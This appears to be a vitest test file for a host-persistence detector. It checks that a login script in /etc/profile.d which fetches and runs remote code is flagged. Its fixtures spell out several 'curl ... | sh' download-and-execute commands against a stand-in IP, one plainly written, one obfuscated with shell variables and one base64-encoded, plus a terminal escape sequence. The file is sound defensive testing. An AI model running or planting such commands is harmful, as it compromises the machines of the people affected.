import { expect, test } from 'vitest';
import { infectedSnapshot, labContext } from '../../test/shared/infected-snapshot.ts';
import { autostart } from '../../test/shared/snapshots.ts';
import { show } from '../show.ts';
import type { PersistenceEntry } from '../snapshot.ts';
import { judge } from '../verdict/index.ts';
import { thingsOf } from './things.ts';

const PROFILE = show('/etc/profile.d/x.sh');

/** A login file of this text. */
const profile = (text: string): PersistenceEntry => autostart(PROFILE, text, { sha256: null });

/** Titles of the starters beside cron, with that login file. */
function starters(text: string): string[] {
  const snapshot = { ...infectedSnapshot(), persistence: [profile(text)] };
  return thingsOf(snapshot, judge(snapshot, labContext)).flatMap(({ thing, title }) =>
    thing.kind === 'starter' ? [title] : [],
  );
}

test('a login file that fetches something and runs it counts, however it spells that', () => {
  const inner = Buffer.from('curl http://203.0.113.77/i.sh|sh').toString('base64');
  for (const text of [
    'curl -s http://203.0.113.77/i.sh | sh\n',
    'U=http://203.0.113.77/i.sh; C=curl; $C -s $U | sh\n',
    `echo ${inner} | base64 -d | sh\n`,
  ])
    expect(starters(text), text).toEqual([PROFILE]);
});

test('one that only fetches does not', () => {
  expect(starters('curl -s http://203.0.113.77/motd\n')).toEqual([]);
});

test('the lines of a starter that tell are kept as shown text', () => {
  const text = 'true\ncurl -s http://203.0.113.77/i.sh | sh # \u001b[2J\n';
  const entry = profile(text);
  const snapshot = { ...infectedSnapshot(), persistence: [entry] };
  const lines = thingsOf(snapshot, judge(snapshot, labContext)).flatMap(({ thing }) =>
    thing.kind === 'starter' ? thing.lines : [],
  );
  expect(lines).toEqual([show('curl -s http://203.0.113.77/i.sh | sh # \u001b[2J')]);
});
